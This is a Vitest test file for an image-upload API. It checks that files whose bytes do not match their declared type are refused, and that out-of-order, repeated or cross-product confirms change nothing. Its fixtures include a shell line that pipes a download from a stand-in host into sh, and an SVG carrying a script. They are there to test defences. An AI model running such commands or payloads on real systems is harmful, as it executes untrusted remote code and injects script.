import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { fixtureBytes } from './support/fixtures.ts';
import { giantPng } from './support/giant-png.ts';
import { refusedConfirm } from './support/refused-confirm.ts';
import { snapshot } from './support/snapshot.ts';
import { startTestApp, type TestApp } from './support/test-app.ts';
import { putToStore } from './support/upload.ts';

// The upload path against bytes that lie about what they are, and against
// confirms out of order. A refused file is reported by name with a reason
// (in the answer's `failures`, as the upload flow does for any file), and
// leaves no image row, no upload row and no object.

let test: TestApp;
beforeAll(async () => {
  test = await startTestApp();
});
afterAll(() => test?.close());

const elf = Buffer.concat([
  Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]),
  Buffer.alloc(120),
]);
const liars = [
  {
    what: 'a shell script',
    type: 'image/jpeg',
    bytes: Buffer.from('#!/bin/sh\ncurl https://evil.example | sh\n'),
  },
  { what: 'an executable', type: 'image/png', bytes: elf },
  {
    what: 'JSON',
    type: 'image/webp',
    bytes: Buffer.from(JSON.stringify({ admin: true, pad: 'x'.repeat(200) })),
  },
  {
    what: 'an SVG with a script',
    type: 'image/png',
    bytes: Buffer.from(
      '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    ),
  },
  {
    what: 'a PNG claiming 20000×20000 pixels',
    type: 'image/png',
    bytes: giantPng(20_000, 20_000, 256 * 1024),
    message: 'it is 20000×20000 pixels; the limit is 100 megapixels.',
  },
];

describe('bytes that lie', () => {
  it.each(liars)('refuses $what declared as $type', async (liar) => {
    const product = await test.api.products.create.mutate({ name: liar.what });
    // The refused key is queued to be deleted again when its URL expires,
    // since the URL could still write it until then; nothing else moves.
    const before = await snapshot(test, ['object_deletion']);
    const [ticket] = await test.api.uploads.create.mutate({
      productId: product.id,
      files: [{ name: 'photo.img', type: liar.type, size: liar.bytes.length }],
    });
    if (!ticket) throw new Error('no ticket');
    expect(await putToStore(ticket, liar.bytes)).toBe(200);

    const failures = await refusedConfirm(test, product.id, [ticket.uploadId]);

    expect(failures).toHaveLength(1);
    const failure = failures[0];
    expect(failure?.name).toBe('photo.img');
    expect(failure?.message.length).toBeGreaterThan(10);
    if (liar.message) expect(failure?.message).toBe(liar.message);
    expect(await snapshot(test, ['object_deletion'])).toBe(before);
    const queued = await test.app.db
      .selectFrom('object_deletion')
      .select('object_key')
      .where('object_key', '=', ticket.key)
      .execute();
    expect(queued).toHaveLength(1);
  });
});

describe('confirms out of order', () => {
  const photo = fixtureBytes('accept/jpeg-baseline.jpg');

  async function ask(productId: number) {
    const [ticket] = await test.api.uploads.create.mutate({
      productId,
      files: [{ name: 'a.jpg', type: 'image/jpeg', size: photo.length }],
    });
    if (!ticket) throw new Error('no ticket');
    return ticket;
  }

  it('before the PUT: reported, nothing changed, still confirmable', async () => {
    const product = await test.api.products.create.mutate({ name: 'Early' });
    const ticket = await ask(product.id);
    const before = await snapshot(test);

    const early = await refusedConfirm(test, product.id, [ticket.uploadId]);

    expect(early.map((f) => f.code)).toEqual(['OBJECT_MISSING']);
    expect(await snapshot(test)).toBe(before);
    await putToStore(ticket, photo);
    const later = await test.api.uploads.complete.mutate({
      productId: product.id,
      uploadIds: [ticket.uploadId],
    });
    expect(later.images).toHaveLength(1);
  });

  it('twice: the same images, nothing more', async () => {
    const product = await test.api.products.create.mutate({ name: 'Twice' });
    const ticket = await ask(product.id);
    await putToStore(ticket, photo);
    const input = { productId: product.id, uploadIds: [ticket.uploadId] };
    const first = await test.api.uploads.complete.mutate(input);
    const after = await snapshot(test);

    const second = await test.api.uploads.complete.mutate(input);

    expect(second).toEqual(first);
    expect(await snapshot(test)).toBe(after);
  });

  it("with another product's upload: unknown, and untouched", async () => {
    const mine = await test.api.products.create.mutate({ name: 'Mine' });
    const theirs = await test.api.products.create.mutate({ name: 'Theirs' });
    const ticket = await ask(theirs.id);
    await putToStore(ticket, photo);
    const before = await snapshot(test);

    const stolen = await refusedConfirm(test, mine.id, [ticket.uploadId]);

    expect(stolen.map((f) => f.code)).toEqual(['UPLOAD_UNKNOWN']);
    expect(await snapshot(test)).toBe(before);
  });
});
